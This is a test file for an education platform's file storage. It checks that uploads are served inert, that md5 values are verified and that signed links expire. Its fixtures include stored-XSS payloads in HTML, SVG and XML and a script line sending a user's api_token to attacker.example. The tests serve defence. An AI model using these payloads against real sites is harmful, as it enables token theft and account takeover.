// Probe (issue 13): uploaded HTML and script ran on the app origin. A student uploaded report.html and a .js
// declaring text/html and application/javascript; /storage served them as such, inline, on our origin, so the page
// read a teacher's api_token. Also: signed links were bearer links for 7 days, and covers kept them in the database.
// Every stored file must be served inert (a type the server decides, attachment unless a preview needs it inline,
// nosniff, a sandbox CSP), a declared md5 must match the stored bytes, and links must die after STORAGE_LINK_TTL.
import { createHash } from 'node:crypto';
import type { CompleteUploadResponse, ResourceDownload, SignPartsResponse, UploadSession } from '@finedu/domain';
import { eq } from 'drizzle-orm';
import { courses, uploads } from '../../src/db/schema/index.js';
import { ManualClock } from '../../src/lib/clock.js';
import { createTestApp, type Session, type TestApp } from '../helper.js';

const TTL = 300;
const md5 = (bytes: Buffer) => createHash('md5').update(bytes).digest('hex');
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const HTML = Buffer.from('<!doctype html><html><body><script src="evil.js"></script><script>fetch("/api/admin/current",{headers:{Authorization:"Bearer "+localStorage.api_token}})</script></body></html>');
const SCRIPT = Buffer.from('fetch("https://attacker.example/?t=" + localStorage.getItem("api_token"));');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');

let t: TestApp;
let student: Session;
let teacher: Session;
const clock = new ManualClock();

beforeAll(async () => {
  t = await createTestApp({ storage: { STORAGE_LINK_TTL: String(TTL) } }, { clock });
  [student, teacher] = await Promise.all([t.login('student'), t.login('teacher')]);
}, 120_000);
afterAll(async () => {
  t.app.server.closeAllConnections();
  await t.close();
});

interface Uploaded {
  code: number;
  message: string;
  key: string;
  url: string;
}

/** The browser's upload (domain UploadClient): create with the declared md5 and type, PUT the part, record it, complete. */
async function upload(as: Session, filename: string, bytes: Buffer, contentType: string, declaredMd5 = md5(bytes)): Promise<Uploaded> {
  const session = await t.call<UploadSession>('POST', '/api/admin/upload', { as, body: { filename, size: bytes.length, md5: declaredMd5, content_type: contentType } });
  expect(session.code).toBe(1);
  expect(session.data.file).toBeNull(); // each case sends bytes of its own, never "already uploaded"
  const signed = await t.call<SignPartsResponse>('POST', `/api/admin/upload/${session.data.id}/sign`, { as, body: { part_numbers: [1] } });
  const put = await fetch(new URL(signed.data.parts[0]!.url, t.baseUrl), { method: 'PUT', body: new Uint8Array(bytes) });
  expect(put.status).toBe(200);
  await t.call('POST', `/api/admin/upload/${session.data.id}/part`, { as, body: { part_number: 1, etag: put.headers.get('etag'), size: bytes.length } });
  const done = await t.call<CompleteUploadResponse>('POST', `/api/admin/upload/${session.data.id}/complete`, { as, body: {}, headers: { 'accept-language': 'en-US' } });
  return { code: done.code, message: done.message, key: session.data.key, url: done.data?.url ?? '' };
}

/** The headers a browser would act on when it follows the link (whole file and a Range, as video does). */
async function served(url: string) {
  const whole = await fetch(new URL(url, t.baseUrl));
  const ranged = await fetch(new URL(url, t.baseUrl), { headers: { range: 'bytes=0-3' } });
  const pick = (response: Response) => ({
    status: response.status,
    type: response.headers.get('content-type'),
    disposition: (response.headers.get('content-disposition') ?? '').split(';')[0],
    nosniff: response.headers.get('x-content-type-options'),
    csp: response.headers.get('content-security-policy'),
  });
  return { whole: pick(whole), ranged: pick(ranged) };
}

const INERT = { nosniff: 'nosniff', csp: "sandbox; default-src 'none'" };

describe('stored files are never active content on the app origin', () => {
  test.each([
    ['report.html', 'text/html', HTML],
    ['evil.js', 'application/javascript', SCRIPT],
    ['chart.svg', 'image/svg+xml', SVG],
    ['feed.xml', 'application/xml', Buffer.from('<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>')],
    // An image by name, HTML by content: the bytes decide, and they are no image.
    ['photo.png', 'image/png', HTML],
  ])('%s (declared %s) downloads as application/octet-stream, sandboxed', async (filename, declared, content) => {
    const file = await upload(student, filename, Buffer.concat([content, Buffer.from(`\n<!-- ${filename} -->`)]), declared);
    expect(file.code).toBe(1);
    const { whole, ranged } = await served(file.url);
    expect(whole).toEqual({ status: 200, type: 'application/octet-stream', disposition: 'attachment', ...INERT });
    expect(ranged).toEqual({ status: 206, type: 'application/octet-stream', disposition: 'attachment', ...INERT });
  });

  test('what previews need is inline, still nosniff and sandboxed; text is plain text to download', async () => {
    const png = await upload(student, 'chart.png', PNG, 'image/png');
    expect((await served(png.url)).whole).toEqual({ status: 200, type: 'image/png', disposition: 'inline', ...INERT });
    // A PNG saved as .jpg is still the image it is.
    const renamed = await upload(teacher, 'photo.jpg', PNG, 'image/jpeg');
    expect((await served(renamed.url)).whole).toMatchObject({ type: 'image/png', disposition: 'inline' });
    const notes = await upload(student, 'notes.md', Buffer.from('# <script>alert(1)</script>'), 'text/html');
    expect((await served(notes.url)).whole).toEqual({ status: 200, type: 'text/plain; charset=utf-8', disposition: 'attachment', ...INERT });
  });

  test('the download name survives in RFC 5987 form', async () => {
    const file = await upload(student, '期末 报告.html', Buffer.concat([HTML, Buffer.from('<!-- 期末 -->')]), 'text/html');
    const response = await fetch(new URL(file.url, t.baseUrl));
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="__ __.html"; filename*=UTF-8''${encodeURIComponent('期末 报告.html')}`);
  });
});

describe('the declared md5 is checked against the stored bytes', () => {
  test('a mismatch is refused with a clear message, and nothing stays behind', async () => {
    const bytes = Buffer.from('the bytes that were really sent');
    const file = await upload(student, 'claimed.txt', bytes, 'text/plain', md5(Buffer.from('something else')));
    expect(file.code).toBe(0);
    expect(file.message).toMatch(/MD5/);
    expect(await t.app.storage.head(file.key)).toBeNull();
    const [row] = await t.app.db.select().from(uploads).where(eq(uploads.key, file.key));
    expect(row?.status).toBe('aborted');
    // Completing again does not bring it back.
    const again = await t.call('POST', `/api/admin/upload/${row!.id}/complete`, { as: student, body: {} });
    expect(again.code).toBe(0);
    expect(await t.app.storage.head(file.key)).toBeNull();
  });
});

describe('links expire in minutes and are issued per request', () => {
  test('an upload link stops working after STORAGE_LINK_TTL for a signed-out client', async () => {
    const file = await upload(teacher, 'handout.pdf', Buffer.from('%PDF-1.4\n%%EOF\n'), 'application/pdf');
    const expires = Number(new URL(file.url, t.baseUrl).searchParams.get('expires'));
    expect(expires * 1000 - clock.now().getTime()).toBeLessThanOrEqual(TTL * 1000);
    expect((await fetch(new URL(file.url, t.baseUrl))).status).toBe(200);
    clock.advance((TTL + 1) * 1000);
    expect((await fetch(new URL(file.url, t.baseUrl))).status).toBe(403);
    // Signed out, nothing renews it.
    expect((await t.call('POST', '/api/admin/storage/link', { body: { url: file.url } })).code).toBe(-401);
    // Signed in, a fresh link is issued for this request.
    const fresh = await t.call<{ url: string }>('POST', '/api/admin/storage/link', { as: teacher, body: { url: file.url } });
    expect(fresh.code).toBe(1);
    expect((await fetch(new URL(fresh.data.url, t.baseUrl))).status).toBe(200);
  });

  test('a resource download link lives STORAGE_LINK_TTL, not hours', async () => {
    const list = await t.call<{ list: Array<{ id: number; filename: string }> }>('GET', '/api/admin/resource?keyword=讲义', { as: student });
    const link = await t.call<ResourceDownload>('GET', `/api/admin/resource/${list.data.list[0]!.id}/download`, { as: student });
    expect(Date.parse(link.data.expires_at) - clock.now().getTime()).toBeLessThanOrEqual(TTL * 1000);
    expect((await fetch(new URL(link.data.url, t.baseUrl))).status).toBe(200);
    clock.advance((TTL + 1) * 1000);
    expect((await fetch(new URL(link.data.url, t.baseUrl))).status).toBe(403);
  });

  test('a cover is kept as a reference and answered as a fresh link; a typed-in key is never signed', async () => {
    const cover = await upload(teacher, 'cover.png', Buffer.concat([PNG, Buffer.from('cover')]), 'image/png');
    const created = await t.call<{ id: number; cover: string }>('POST', '/api/admin/course', { as: teacher, body: { title: '封面引用', cover: cover.url } });
    expect(created.code).toBe(1);
    const [row] = await t.app.db.select({ cover: courses.cover }).from(courses).where(eq(courses.id, created.data.id));
    // The database holds no bearer link: its reference downloads nothing.
    expect(row!.cover).not.toMatch(/expires=|signature=/);
    expect((await fetch(new URL(row!.cover, t.baseUrl))).status).toBe(403);
    clock.advance((TTL + 1) * 1000);
    const later = await t.call<{ cover: string }>('GET', `/api/admin/course/${created.data.id}`, { as: teacher });
    expect(later.data.cover).toMatch(/expires=/);
    expect((await fetch(new URL(later.data.cover, t.baseUrl))).status).toBe(200);

    // A key written by hand (the student's own or anyone's) stays an inert string.
    const forged = `/storage/${cover.key}?ref=${'A'.repeat(43)}`;
    const typed = await t.call<{ id: number; cover: string }>('POST', '/api/admin/course', { as: teacher, body: { title: '伪造封面', cover: forged } });
    expect(typed.data.cover).toBe(forged);
    expect((await fetch(new URL(typed.data.cover, t.baseUrl))).status).toBe(403);
    expect((await t.call('POST', '/api/admin/storage/link', { as: teacher, body: { url: `/storage/${cover.key}?expires=1&signature=x` } })).code).toBe(0);
  });
});
